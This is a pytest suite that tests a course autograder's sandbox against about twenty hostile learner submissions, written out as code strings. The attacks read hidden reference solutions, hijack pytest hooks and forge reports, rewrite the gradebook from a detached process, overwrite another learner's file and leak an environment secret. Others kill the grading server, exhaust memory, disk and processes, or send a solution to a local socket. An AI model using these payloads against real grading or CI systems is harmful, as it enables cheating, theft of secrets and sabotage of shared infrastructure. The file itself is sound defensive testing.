"""The attack suite: a class of hostile submissions, graded by `course grade` itself.

Each attack from issue 11, and a few more, is one learner whose lesson 01 starts from
the untouched starter (worth 0) with the attack added. Beside them: an honest learner
with the solutions of lessons 01 and 07 (07 reads lesson 04's reference, staged), an
untouched starter and a full-solution victim, named so they are graded after every
attacker. The class is graded by ``course grade``, as a subprocess, from a throwaway
copy of the course, with a memory limit of 1.5 GB per pair.

With the sandbox (the default) the suite asserts that every attacker scores 0, every
attack's effect is absent, the honest learners score exactly their full marks, nothing
outside the gradebook was written, no process outlived grading and ``course grade``
exited 0 with a full gradebook.

``pytest tests/course/test_attacks.py --no-sandbox`` grades the same learners the way
the course did before the sandbox, and asserts the opposite: that every attack works (a
score, a flag-free full mark, or harm done), so a dud attack cannot pass for a defended
one. There, the attacks that kill the grading server or scribble on its pipe are each
graded in a small class of their own, at the same time, with a victim of their own:
their damage (no gradebook at all; every later pair on that server misread) would hide
the other attacks'. Print the table with ``-s``.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import signal
import socket
import string
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from mlops_course import starters
from mlops_course.grading.plugin import in_ci
from mlops_course.grading.sandbox import Sandbox, SandboxUnavailable
from mlops_course.workspace import COURSE_ROOT

LESSON_FOLDER = "01-what-is-mlops"
FILES = ("fingerprint", "maturity", "baseline")
HONEST, UNTOUCHED, VICTIM = "0-honest", "z-untouched", "zz-victim"
SOLO_VICTIM = "zz-victim-alone"
MEMORY_MB = 1536
TIMEOUT = 60
COPIED = ("mlops_course", "solutions", "tests/lessons", "tests/conftest.py")
COPIED_FILES = ("pyproject.toml", "uv.lock", "Makefile")
TEST_LINE = "def test_run_fingerprint_exists(fingerprint):"  # a line of the grading tests


# --- the attacks -------------------------------------------------------------------------------
# Code added to the end of an exercise file, filled in per run: $room (the submissions),
# $out (the gradebook), $port (a listener of the suite's own), $outside (a folder of the
# suite's own), $marker (in every process an attack leaves behind), $me (the learner).

FIND_PYTEST = """
import gc as _gc
def _pytest_object(kind):
    for _obj in _gc.get_objects():
        if type(_obj).__name__ == kind and type(_obj).__module__.startswith("_pytest"):
            return _obj
"""

READ_BY_WORKING_FOLDER = """
import os as _os
_path = _os.path.join(_os.getcwd(), "solutions", "01-what-is-mlops", "exercises", "$file.py")
try:
    exec(compile(open(_path).read(), _path, "exec"))
except OSError:
    pass
"""

READ_BY_PACKAGE = """
from pathlib import Path as _Path
import mlops_course as _course
_solutions = _Path(_course.__file__).resolve().parents[1] / "solutions"
_path = _solutions / "01-what-is-mlops" / "exercises" / "$file.py"
try:
    exec(compile(_path.read_text(), str(_path), "exec"))
except OSError:
    pass
"""

READ_BY_PLUGIN = """
from mlops_course.grading.plugin import load_reference as _load
try:
    _reference = vars(_load("01", "$file"))
    globals().update({k: v for k, v in _reference.items() if not k.startswith("__")})
except OSError:
    pass
"""

REPLACE_TEST_RESULT = """
import sys as _sys
import mlops_course.grading.plugin as _plugin
if "course_attack_done" not in _sys.modules:
    _sys.modules["course_attack_done"] = _sys
    _Real = _plugin.TestResult
    class _Forged:
        @staticmethod
        def model_validate(values):
            return _Real.model_validate(dict(values, earned=values["points"], outcome="passed"))
    _plugin.TestResult = _Forged
"""

HOOK = """
import sys as _sys
import pytest as _pytest
class _Passes:
    @_pytest.hookimpl(wrapper=True, trylast=True)
    def pytest_runtest_makereport(self, item, call):
        report = yield
        if _chosen(item):
            report.outcome, report.longrepr = "passed", None
        return report
if "course_attack_done" not in _sys.modules:
    _sys.modules["course_attack_done"] = _sys
    _pytest_object("Config").pluginmanager.register(_Passes(), "course-attack")
"""

EVERY_TEST = "def _chosen(item):\n    return True\n"

ONLY_REAL_TESTS = """
import ast as _ast
from pathlib import Path as _Path
import mlops_course as _course
_tests = _Path(_course.__file__).resolve().parents[1] / "tests/lessons/test_01_what_is_mlops.py"
_REAL = {node.name for node in _ast.walk(_ast.parse(_tests.read_text()))
         if isinstance(node, _ast.FunctionDef) and node.name.startswith("test_")}
def _chosen(item):
    return item.name in _REAL
"""

FORGE_REPORT = """
import json as _json, os as _os
def _forge():
    path = _pytest_object("Config").getoption("--grade-json")
    tests = []
    for item in _pytest_object("Session").items:
        marker = item.get_closest_marker("points")
        if marker is not None:
            tests.append({"test": item.name, "lesson": "01", "points": float(marker.args[0]),
                          "exercise": marker.kwargs.get("exercise", ""),
                          "hint": marker.kwargs.get("hint", ""),
                          "more": marker.kwargs.get("more", "")})
    results = [dict(test, earned=test["points"], outcome="passed", message="") for test in tests]
    with open(path, "w") as handle:
        handle.write(_json.dumps({"collected": tests, "results": results, "canaries": []}))
"""

FORGED_REPORT_THEN_EXIT = FORGE_REPORT + "_forge()\n_os._exit(0)\n"

SCRIBBLE_ON_THE_PIPE = (
    FORGE_REPORT
    + """
_forge()
try:  # the grading server answers on its stdout: answer for it, "finished"
    with open(f"/proc/{_os.getppid()}/fd/1", "w") as _pipe:
        _pipe.write('{"code": 0}\\n')
except OSError:
    pass
_os._exit(0)
"""
)

BACKGROUND_REWRITE = """
import subprocess as _subprocess, sys as _sys
_REWRITE = '''
import csv, json, os, sys, time
out, me = sys.argv[1], sys.argv[2]
deadline = time.time() + 90
while time.time() < deadline and not os.path.exists(os.path.join(out, "feedback", "$last.md")):
    time.sleep(0.2)
time.sleep(1.5)
rows = list(csv.reader(open(os.path.join(out, "grades.csv"))))
for row in rows:
    if row[0] == me:
        row[1], row[-2] = "42", "42"
with open(os.path.join(out, "grades.csv"), "w", newline="") as handle:
    csv.writer(handle, lineterminator="\\\\n").writerows(rows)
book = json.load(open(os.path.join(out, "grades.json")))
book["learners"][me]["lessons"]["01"]["score"] = 42.0
book["learners"][me]["total"] = 42.0
open(os.path.join(out, "grades.json"), "w").write(json.dumps(book))
with open(os.path.join(out, "feedback", me + ".md"), "w") as handle:
    handle.write("# Feedback\\\\n\\\\nTotal: **42** points.\\\\n")
'''
if "course_attack_done" not in _sys.modules:
    _sys.modules["course_attack_done"] = _sys
    _subprocess.Popen([_sys.executable, "-c", _REWRITE, "$out", "$me", "$marker"],
                      start_new_session=True, stdin=_subprocess.DEVNULL,
                      stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
"""

PLANTED_CONFTEST = """import pytest
@pytest.hookimpl(wrapper=True, trylast=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome, report.longrepr = "passed", None
    return report
"""

PLANT_CONFTEST = (
    """
from pathlib import Path as _Path
import mlops_course as _course
_target = _Path(_course.__file__).resolve().parents[1] / "tests/lessons/conftest.py"
try:
    _target.write_text("""
    + repr(PLANTED_CONFTEST)
    + """)
except OSError:
    pass
"""
)

OVERWRITE_VICTIM = """
try:
    with open("$room/$victim/lessons/01-what-is-mlops/exercises/baseline.py", "w") as _handle:
        _handle.write("def majority_baseline(labels):\\n    return 0.0\\n")
except OSError:
    pass
"""

KILL_THE_SERVER = """
import os as _os, signal as _signal
_os.kill(_os.getppid(), _signal.SIGKILL)
"""

LEAK_IN_A_MESSAGE = """
import os as _os
def _read(path):
    try:
        text = open(path).read()
    except OSError as error:
        return f"<{type(error).__name__}>"
    start = text.find("BEGIN SOLUTION")
    return text[start:start + 120] if start >= 0 else text[:120]
def _line(path, wanted):
    try:
        return next(line.strip() for line in open(path) if wanted in line)
    except (OSError, StopIteration) as error:
        return f"<{type(error).__name__}>"
try:
    _class = ",".join(sorted(name for name in _os.listdir("$room") if "victim" in name))
except OSError as error:
    _class = f"<{type(error).__name__}>"
raise RuntimeError(
    "LEAK secret=" + _os.environ.get("COURSE_ATTACK_SECRET", "<none>") + " class=" + _class
    + " tests=" + _line(_os.path.join(_os.getcwd(), "tests/lessons/test_01_what_is_mlops.py"),
                        "def test_run_fingerprint_exists(")
    + " victim=" + _read("$room/$victim/lessons/01-what-is-mlops/exercises/fingerprint.py")
)
"""

HOG_SHARED_MEMORY = """
import os as _os
def _hog():
    path, written, chunk = "/dev/shm/course-attack-$marker", 0, b"x" * (64 << 20)
    try:
        with open(path, "wb") as handle:
            while written < (1200 << 20):
                handle.write(chunk)
                handle.flush()
                written += len(chunk)
        return f"ATTACK held {written >> 20} MB of shared memory"
    except OSError as error:
        return f"stopped at {written >> 20} MB: {type(error).__name__}"
    finally:
        if _os.path.exists(path):
            _os.unlink(path)
raise RuntimeError(_hog())
"""

HOG_MEMORY_IN_CHILDREN = """
import os as _os, time as _time
def _hog():
    children = []
    for _ in range(2):
        pid = _os.fork()
        if pid == 0:
            try:
                block = bytearray(800 << 20)
                for index in range(0, len(block), 4096):
                    block[index] = 1
                _time.sleep(2)
                _os._exit(0)
            except MemoryError:
                _os._exit(3)
        children.append(pid)
    codes = [_os.waitstatus_to_exitcode(_os.waitpid(pid, 0)[1]) for pid in children]
    return "ATTACK two children held 800 MB each" if codes == [0, 0] else f"children ended {codes}"
raise RuntimeError(_hog())
"""

HOG_DISK = """
import os as _os
def _hog():
    written, chunk = 0, b"x" * (64 << 20)
    for folder in ("$outside", "/var/tmp", "/tmp"):
        try:
            with open(_os.path.join(folder, "disk-$marker.bin"), "wb") as handle:
                while written < (1500 << 20):
                    handle.write(chunk)
                    written += len(chunk)
            return f"ATTACK wrote {written >> 20} MB in {folder}"
        except OSError as error:
            last = f"stopped at {written >> 20} MB in {folder}: {type(error).__name__}"
    return last
raise RuntimeError(_hog())
"""

HOG_FILES = """
import os as _os
def _hog():
    held = []
    try:
        while len(held) < 3000:
            held.append(_os.open(_os.devnull, _os.O_RDONLY))
        return "ATTACK held 3000 open files"
    except OSError as error:
        return f"stopped at {len(held)} open files: {type(error).__name__}"
raise RuntimeError(_hog())
"""

HOG_PROCESSES = """
import subprocess as _subprocess
def _hog():
    started = []
    try:
        while len(started) < 400:
            started.append(_subprocess.Popen(["sleep", "6", "0.$digits"]))
        return "ATTACK started 400 processes"
    except OSError as error:
        return f"stopped at {len(started)} processes: {type(error).__name__}"
raise RuntimeError(_hog())
"""

SEND_OVER_THE_NETWORK = """
import os as _os, socket as _socket
def _send():
    path = _os.path.join(_os.getcwd(), "solutions/01-what-is-mlops/exercises/baseline.py")
    try:
        reference = open(path).read()
    except OSError:
        reference = "(no reference readable)"
    try:
        with _socket.create_connection(("127.0.0.1", $port), timeout=3) as connection:
            connection.sendall(("$marker " + reference).encode())
        return "ATTACK sent the reference"
    except OSError as error:
        return f"no connection: {type(error).__name__}"
raise RuntimeError(_send())
"""

FAKE_SUMMARY = 'print("=" * 30 + " 42 passed in 0.12s " + "=" * 30)\n'
OWN_CONFTEST = PLANTED_CONFTEST


@dataclass
class Evidence:
    """What one suite run saw, for every attack to be judged by."""

    book: dict
    secret: str
    seconds: float
    class_code: int
    solo: dict[str, Grading]  # learner -> its own class's `course grade`, once finished
    feedback: dict[str, str]
    received: bytes
    course_changes: list[str]
    room_changes: list[str]
    leftovers: list[str]
    outside: list[str]
    csv_at_exit: str
    csv_later: str

    def entry(self, learner: str, lesson: str = "01") -> dict:
        """The gradebook entry of one learner's lesson (in its own class, if it had one)."""
        book = self.solo[learner].book if learner in self.solo else self.book
        return (book or {"learners": {}})["learners"].get(learner, {}).get("lessons", {})[lesson]

    def stopped_grading(self, learner: str) -> str | None:
        """Why `course grade` stopped with no gradebook, when the learner's own class did."""
        if learner not in self.solo:
            return None if self.class_code == 0 and self.book else "the class's grading failed"
        run = self.solo[learner]
        if run.code == 0 and run.book:
            return None
        said = (run.stderr_text.strip().splitlines() or ["nothing"])[-1]
        return f"course grade exited {run.code} with no gradebook: {said}"

    def scored_unflagged(self, learner: str) -> str | None:
        """'scored N without a flag' when the learner did, else None."""
        if self.stopped_grading(learner):
            return None
        entry = self.entry(learner)
        if entry["score"] > 0 and not entry["flags"]:
            return f"scored {entry['score']:g} without a flag"
        return None

    def said(self, learner: str, text: str) -> str | None:
        """Its own feedback, when that contains ``text`` (an attack's report of success)."""
        feedback = self.feedback.get(learner, "")
        start = feedback.find(text)
        return feedback[start : start + 60] if start >= 0 else None


@dataclass(frozen=True)
class Attack:
    """One hostile learner: what it does, its code, and how to see that it worked."""

    learner: str
    does: str
    code: dict[str, str]  # exercise file stem (or "conftest") -> code added; "*" = every file
    worked: Callable[[Evidence], str | None]
    symlinks: bool = False
    harmless: bool = False  # a control: harmless with or without the sandbox
    alone: bool = False  # without the sandbox, its damage would hide others': a class of its own


def _attacks() -> list[Attack]:
    def scored(learner: str) -> Callable[[Evidence], str | None]:
        return lambda seen: seen.scored_unflagged(learner)

    def said(learner: str, text: str) -> Callable[[Evidence], str | None]:
        return lambda seen: seen.said(learner, text)

    def rewrote(seen: Evidence) -> str | None:
        changed = seen.csv_later != seen.csv_at_exit
        return "rewrote grades.csv after course grade exited" if changed else None

    def planted(seen: Evidence) -> str | None:
        conftest = [c for c in seen.course_changes if c.endswith("tests/lessons/conftest.py")]
        later = seen.entry(UNTOUCHED)["score"]
        return f"planted a conftest; the untouched starter scored {later:g}" if conftest else None

    def overwrote(seen: Evidence) -> str | None:
        hit = [change for change in seen.room_changes if VICTIM in change]
        return f"changed the victim's files: {hit}" if hit else None

    def leaked(seen: Evidence) -> str | None:
        feedback = seen.feedback.get("attack-13-leak", "")
        found = [name for name, text in _leak_markers(seen).items() if text in feedback]
        return f"its feedback holds: {', '.join(found)}" if found else None

    def scribbled(seen: Evidence) -> str | None:
        scored_it = seen.scored_unflagged("attack-y-scribble")
        if scored_it and "attack-y-scribble" in seen.solo:
            book = seen.solo["attack-y-scribble"].book or {}
            victim = book["learners"][SOLO_VICTIM]["lessons"]["01"]
            return f"{scored_it}; the learner after it on its server: {victim['status']}"
        return scored_it

    def sent(seen: Evidence) -> str | None:
        return f"sent {len(seen.received)} bytes to 127.0.0.1" if seen.received else None

    def wrote_outside(seen: Evidence) -> str | None:
        return f"left {seen.outside}" if seen.outside else None

    def harmless(learner: str) -> Callable[[Evidence], str | None]:
        return lambda seen: seen.scored_unflagged(learner)

    every = {"*": FIND_PYTEST + HOOK + EVERY_TEST}
    return [
        Attack(
            "attack-01-read-cwd",
            "read the reference from solutions/ via the working folder",
            {"*": READ_BY_WORKING_FOLDER},
            scored("attack-01-read-cwd"),
        ),
        Attack(
            "attack-02-read-package",
            "read the reference from solutions/ via mlops_course.__file__",
            {"*": READ_BY_PACKAGE},
            scored("attack-02-read-package"),
        ),
        Attack(
            "attack-03-read-plugin",
            "read the reference by calling the plugin's load_reference",
            {"*": READ_BY_PLUGIN},
            scored("attack-03-read-plugin"),
        ),
        Attack(
            "attack-04-symlinks",
            "exercise files that are symlinks to the solution files",
            {},
            scored("attack-04-symlinks"),
            symlinks=True,
        ),
        Attack(
            "attack-05-test-result",
            "replaced the plugin's TestResult so every result counts as passed",
            {"*": REPLACE_TEST_RESULT},
            scored("attack-05-test-result"),
        ),
        Attack(
            "attack-06-hook",
            "found pytest's config in memory and registered a hook passing every test",
            every,
            scored("attack-06-hook"),
        ),
        Attack(
            "attack-07-real-tests-only",
            "the same hook, passing only the real tests and leaving any other alone",
            {"*": FIND_PYTEST + ONLY_REAL_TESTS + HOOK},
            scored("attack-07-real-tests-only"),
        ),
        Attack(
            "attack-08-forged-report",
            "wrote its own report.json with every test passed, then os._exit(0)",
            {"*": FIND_PYTEST + FORGED_REPORT_THEN_EXIT},
            scored("attack-08-forged-report"),
        ),
        Attack(
            "attack-09-background",
            "detached a process that rewrote grades.csv and grades.json after grading",
            {"*": BACKGROUND_REWRITE},
            rewrote,
        ),
        Attack(
            "attack-x-plant-conftest",
            "wrote tests/lessons/conftest.py into the course folder",
            {"*": PLANT_CONFTEST},
            planted,
        ),
        Attack(
            "attack-11-overwrite-victim",
            "overwrote another learner's exercise file during grading",
            {"baseline": OVERWRITE_VICTIM},
            overwrote,
        ),
        Attack(
            "attack-13-leak",
            "raised an exception holding the class list, another's code, the tests, secrets",
            {"baseline": LEAK_IN_A_MESSAGE},
            leaked,
        ),
        Attack(
            "attack-14-shared-memory",
            "used 1.2 GB of shared memory",
            {"baseline": HOG_SHARED_MEMORY},
            said("attack-14-shared-memory", "ATTACK held"),
        ),
        Attack(
            "attack-15-children",
            f"two 800 MB children (the memory limit is {MEMORY_MB} MB)",
            {"baseline": HOG_MEMORY_IN_CHILDREN},
            said("attack-15-children", "ATTACK two children"),
        ),
        Attack(
            "attack-16-disk",
            "wrote 1.5 GB of disk outside its scratch copy",
            {"baseline": HOG_DISK},
            wrote_outside,
        ),
        Attack(
            "attack-17-open-files",
            "held 3,000 open files",
            {"baseline": HOG_FILES},
            said("attack-17-open-files", "ATTACK held 3000"),
        ),
        Attack(
            "attack-18-processes",
            "started 400 processes",
            {"baseline": HOG_PROCESSES},
            said("attack-18-processes", "ATTACK started 400"),
        ),
        Attack(
            "attack-19-network",
            "connected to a listener on 127.0.0.1 and sent the reference solution",
            {"baseline": SEND_OVER_THE_NETWORK},
            sent,
        ),
        Attack(
            "attack-20-fake-summary",
            "printed a fake pytest summary and shipped its own conftest.py (a control)",
            {"baseline": FAKE_SUMMARY, "conftest": OWN_CONFTEST},
            harmless("attack-20-fake-summary"),
            harmless=True,
        ),
        Attack(
            "attack-y-scribble",
            "wrote a fake 'finished' answer into the grading server's pipe (/proc/<ppid>/fd/1)",
            {"*": FIND_PYTEST + SCRIBBLE_ON_THE_PIPE},
            scribbled,
            alone=True,
        ),
        Attack(
            "attack-12-kill-server",
            "killed the warm grading server (os.kill(os.getppid(), 9))",
            {"baseline": KILL_THE_SERVER},
            lambda seen: _only_if("server died", seen.stopped_grading("attack-12-kill-server")),
            alone=True,
        ),
    ]


ATTACKS = _attacks()


def _only_if(sign: str, effect: str | None) -> str | None:
    """``effect`` when it says ``sign`` (the damage the attack itself caused), else None."""
    return effect if effect and sign in effect else None


def _leak_markers(seen: Evidence) -> dict[str, str]:
    return {
        "the secret": seen.secret,
        "the class list": VICTIM,
        "another learner's code": "BEGIN SOLUTION",
        "the grading tests": TEST_LINE,
    }


# --- the run -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sandboxed(request) -> bool:
    """True unless ``--no-sandbox``; with the sandbox, one must be available here."""
    if request.config.getoption("--no-sandbox"):
        return False
    try:
        Sandbox(timeout=5, memory_mb=256).close()
    except SandboxUnavailable as error:
        if in_ci():
            pytest.fail(f"no grading sandbox here ({error}); COURSE_CI=1 requires one")
        pytest.skip(f"no grading sandbox here: {error}")
    return True


class Listener:
    """A TCP listener on 127.0.0.1 that keeps whatever it is sent."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.received = b""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(2)
                while chunk := connection.recv(65536):
                    self.received += chunk

    def close(self) -> bytes:
        """Stop listening; return everything received."""
        self._stop.set()
        self._thread.join()
        self.socket.close()
        return self.received


@pytest.fixture(scope="module")
def seen(sandboxed, tmp_path_factory) -> Evidence:
    """Grade both classes at once with `course grade`, then gather the evidence."""
    top = tmp_path_factory.mktemp("attacks")
    course = _copy_course(top / "course")
    outside = top / "outside"
    outside.mkdir()
    marker = secrets.token_hex(8)
    values = {
        "marker": marker,
        "digits": str(int(marker[:8], 16)),
        "outside": str(outside),
        "victim": VICTIM,
        "last": VICTIM,
    }
    listener = Listener()
    values["port"] = str(listener.port)
    room, out = top / "class", top / "gradebook"
    # With the sandbox no attack harms another: one class (and one server pair) for all.
    solo = [] if sandboxed else [attack for attack in ATTACKS if attack.alone]
    together = [attack for attack in ATTACKS if attack not in solo]
    _write_class(room, course, together, [HONEST, UNTOUCHED, VICTIM], values)
    for attack in solo:
        _write_class(top / attack.learner, course, [attack], [SOLO_VICTIM], values)
    before = {"course": _snapshot(course), "room": _snapshot(room)}
    secret = secrets.token_hex(12)
    started = time.monotonic()
    runs = [_course_grade(course, room, out, ["01", "07"], 2, sandboxed, secret)]
    for attack in solo:
        folder, gradebook = top / attack.learner, top / f"{attack.learner}-gradebook"
        runs.append(_course_grade(course, folder, gradebook, ["01"], 1, sandboxed, secret))
    codes = [_finish(run) for run in runs]
    seconds = time.monotonic() - started
    csv_at_exit = _read(out / "grades.csv")
    csv_later = _wait_for_change(out / "grades.csv", csv_at_exit, 25 if not sandboxed else 2)
    leftovers = _processes_with(marker, values["digits"])
    _kill(leftovers)
    outside_files = [str(p) for p in outside.iterdir()] + _marked_files(marker)
    for path in _marked_files(marker) + [str(p) for p in outside.iterdir()]:
        os.unlink(path)
    assert codes[0] == 0 or not sandboxed, f"course grade failed:\n{runs[0].stderr_text[-3000:]}"
    book = json.loads(_read(out / "grades.json") or "{}")
    print(f"\n{'sandbox' if sandboxed else 'no sandbox'}: graded in {seconds:.1f} s")
    for run, code in zip(runs, codes, strict=True):
        if code != 0:
            print(f"course grade exited {code}: {run.stderr_text.strip().splitlines()[-1:]}")
    return Evidence(
        book=book,
        secret=secret,
        seconds=seconds,
        class_code=codes[0],
        solo={attack.learner: run for attack, run in zip(solo, runs[1:], strict=True)},
        feedback={p.stem: p.read_text() for p in (out / "feedback").glob("*.md")},
        received=listener.close(),
        course_changes=_changes(before["course"], _snapshot(course)),
        room_changes=_changes(before["room"], _snapshot(room)),
        leftovers=leftovers,
        outside=outside_files,
        csv_at_exit=csv_at_exit,
        csv_later=csv_later,
    )


@dataclass
class Grading:
    """A `course grade` run: while it runs, then its exit code, stderr and gradebook."""

    process: subprocess.Popen[bytes]
    out: Path
    code: int = -1
    stderr_text: str = ""
    book: dict | None = None


def _course_grade(
    course: Path,
    room: Path,
    out: Path,
    lessons: list[str],
    jobs: int,
    sandboxed: bool,
    secret: str,
) -> Grading:
    command = [sys.executable, "-m", "mlops_course.cli", "grade", str(room), "--out", str(out)]
    command += ["--lessons", *lessons, "--timeout", str(TIMEOUT), "--jobs", str(jobs)]
    command += ["--memory-mb", str(MEMORY_MB)] + ([] if sandboxed else ["--no-sandbox"])
    env = {**os.environ, "COURSE_ATTACK_SECRET": secret}
    process = subprocess.Popen(
        command, cwd=course, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    return Grading(process, out)


def _finish(run: Grading) -> int:
    _, stderr = run.process.communicate(timeout=600)
    run.stderr_text = stderr.decode(errors="replace")
    run.code = run.process.returncode
    run.book = json.loads(_read(run.out / "grades.json") or "null")
    return run.code


def _copy_course(course: Path) -> Path:
    """The grader's own copy of the course, so an attack that escapes harms only the copy."""
    for name in COPIED:
        source = COURSE_ROOT / name
        if source.is_dir():
            shutil.copytree(source, course / name, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            (course / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, course / name)
    for name in COPIED_FILES:
        shutil.copy2(COURSE_ROOT / name, course / name)
    template = COURSE_ROOT / ".cache" / "mlflow"
    if template.is_dir():
        shutil.copytree(template, course / ".cache" / "mlflow")
    return course


def _write_class(
    room: Path,
    course: Path,
    attacks: list[Attack],
    honest: list[str],
    values: dict[str, str],
) -> None:
    solutions = course / "solutions"
    for learner in honest:
        # Lesson 07 (it loads lesson 04's reference, staged) costs ~25 s: the honest learner's only.
        for folder in (LESSON_FOLDER, "07-model-registry")[: 2 if learner == HONEST else 1]:
            target = room / learner / "lessons" / folder / "exercises"
            source = solutions / folder / "exercises"
            if learner == UNTOUCHED:
                target.mkdir(parents=True, exist_ok=True)
                for path in source.iterdir():
                    (target / path.name).write_text(
                        starters.make_starter(path.read_text(), path.name)
                    )
            else:
                shutil.copytree(source, target)
    for attack in attacks:
        folder = room / attack.learner / "lessons" / LESSON_FOLDER / "exercises"
        folder.mkdir(parents=True, exist_ok=True)
        for stem in FILES:
            path = folder / f"{stem}.py"
            reference = solutions / LESSON_FOLDER / "exercises" / f"{stem}.py"
            if attack.symlinks:
                if not path.is_symlink():
                    path.symlink_to(reference)
                continue
            added = attack.code.get("*", "") + attack.code.get(stem, "")
            filled = string.Template(added).safe_substitute(
                values,
                room=str(room),
                out=str(room.parent / "gradebook"),
                file=stem,
                me=attack.learner,
            )
            path.write_text(starters.make_starter(reference.read_text(), path.name) + filled)
        if "conftest" in attack.code:
            (folder / "conftest.py").write_text(attack.code["conftest"])


def _snapshot(folder: Path) -> dict[str, str]:
    files = {}
    for path in sorted(folder.rglob("*")):
        if ".cache" in path.parts or "__pycache__" in path.parts:
            continue
        if path.is_symlink():
            files[str(path)] = "link:" + os.readlink(path)
        elif path.is_file():
            files[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return files


def _changes(before: dict[str, str], after: dict[str, str]) -> list[str]:
    return sorted(path for path in set(before) | set(after) if before.get(path) != after.get(path))


def _read(path: Path) -> str:
    return path.read_text() if path.exists() else ""


def _wait_for_change(path: Path, text: str, seconds: float) -> str:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        time.sleep(0.5)
        if _read(path) != text:
            time.sleep(1)
            break
    return _read(path)


def _processes_with(*markers: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if any(marker in command for marker in markers):
            found.append(f"{entry.name} {command[:80]}")
    return found


def _kill(processes: list[str]) -> None:
    for process in processes:
        try:
            os.kill(int(process.split()[0]), signal.SIGKILL)
        except ProcessLookupError:
            pass


def _marked_files(marker: str) -> list[str]:
    return [
        str(path)
        for folder in (Path("/dev/shm"), Path("/tmp"), Path("/var/tmp"))
        for path in folder.glob(f"*{marker}*")
    ]


def _its_message(entry: dict) -> str:
    """What the attack's own failing tests said (or why its lesson stopped), for the table."""
    messages = [
        test["message"] for test in entry.get("tests", []) if "baseline.py" in test["message"]
    ]
    return (messages[:1] or [entry.get("cause", "")])[0][:160]


# --- the verdicts ------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.learner)
def test_each_attack(attack, seen, sandboxed):
    """With the sandbox: no points and no effect. Without: the attack works (a control does not)."""
    effect = attack.worked(seen)
    entry = {} if seen.stopped_grading(attack.learner) else seen.entry(attack.learner)
    print(f"{attack.learner}: score {entry.get('score')}, flags {entry.get('flags')}, {effect}")
    print(f"    {attack.learner} said: {_its_message(entry)!r}")
    if attack.harmless:
        assert effect is None, f"{attack.does}: {effect}"
    elif sandboxed:
        assert entry["score"] == 0, f"{attack.does}: scored {entry['score']} ({entry})"
        assert effect is None, f"{attack.does}: {effect}"
    else:
        assert effect is not None, f"{attack.does}: the attack did nothing without the sandbox"


def test_course_grade_exits_0_with_a_full_gradebook(seen, sandboxed):
    if not sandboxed:
        pytest.skip("without the sandbox, attacks are expected to break grading")
    assert seen.class_code == 0
    learners = [attack.learner for attack in ATTACKS] + [HONEST, UNTOUCHED, VICTIM]
    assert sorted(seen.book["learners"]) == sorted(learners)
    assert sorted(seen.feedback) == sorted(learners)
    assert seen.book["sandboxed"] is True
    print(f"the class graded in {seen.seconds:.1f} s")


def test_honest_learners_score_exactly_what_they_score_alone(seen, sandboxed):
    if not sandboxed:
        pytest.skip("without the sandbox, attacks are expected to harm honest learners")
    maximum = seen.book["max_points"]
    for lesson in ("01", "07"):
        honest = seen.entry(HONEST, lesson)
        assert honest["score"] == maximum[lesson] and not honest["flags"], honest
    victim = seen.entry(VICTIM)
    assert json.dumps(victim, sort_keys=True) == json.dumps(seen.entry(HONEST), sort_keys=True)
    untouched = seen.entry(UNTOUCHED)
    assert (untouched["score"], untouched["status"], untouched["flags"]) == (0, "graded", [])


def test_nothing_written_outside_and_nothing_left_running(seen, sandboxed):
    if not sandboxed:
        pytest.skip("without the sandbox, attacks are expected to leave things behind")
    assert not seen.course_changes, f"the course copy changed: {seen.course_changes}"
    assert not seen.room_changes, f"the submissions changed: {seen.room_changes}"
    assert not seen.outside, f"files outside the scratch areas: {seen.outside}"
    assert not seen.leftovers, f"processes outlived grading: {seen.leftovers}"
    assert seen.csv_later == seen.csv_at_exit, "grades.csv changed after course grade exited"
